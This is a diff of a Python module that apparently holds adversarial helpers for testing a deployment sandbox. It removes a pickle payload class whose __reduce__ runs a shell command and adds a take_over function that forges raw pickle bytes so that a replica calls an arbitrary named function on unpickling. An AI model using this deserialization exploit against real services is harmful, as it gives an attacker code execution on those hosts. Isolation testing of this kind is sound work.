@@ -2,6 +2,7 @@
 
 import ctypes
 import os
+import pickle
 import time
 from collections.abc import Iterator
 from typing import Any, BinaryIO
@@ -10,6 +11,7 @@ import numpy as np
 
 from deployments.cancellation import Cancellation
 from deployments.errors import InvalidFile
+from deployments.sandbox import messages
 
 
 def read_parts(file: BinaryIO, sizes: list[int], cancellation: Cancellation) -> Iterator[bytes]:
@@ -55,12 +57,20 @@ def be_patient(file: BinaryIO, cancellation: Cancellation) -> Iterator[Any]:
     yield
 
 
-class Evil:
-    """Runs a command in whoever unpickles it."""
+def take_over(file: BinaryIO, module: str, name: str, cancellation: Cancellation) -> Iterator[Any]:
+    """Send the replica a pickle that names an object of its modules, and calls it."""
+    parts = [b"c", module.encode(), b"\n", name.encode(), b"\n(S'true'\ntR."]
+    messages.pickle = _Forged(b"".join(parts))  # type: ignore[attr-defined, assignment]
+    yield None
 
-    def __reduce__(self) -> Any:
-        return os.system, ("touch /tmp/unpickled-by-the-replica",)
 
+class _Forged:
+    PickleBuffer = pickle.PickleBuffer
 
-def take_over(file: BinaryIO, cancellation: Cancellation) -> Iterator[Any]:
-    yield Evil()
+    def __init__(self, data: bytes) -> None:
+        self._data = data
+
+    def dumps(self, value: Any, protocol: int, buffer_callback: Any = None) -> bytes:
+        if buffer_callback is not None:
+            return self._data
+        return pickle.dumps(value, protocol=protocol)
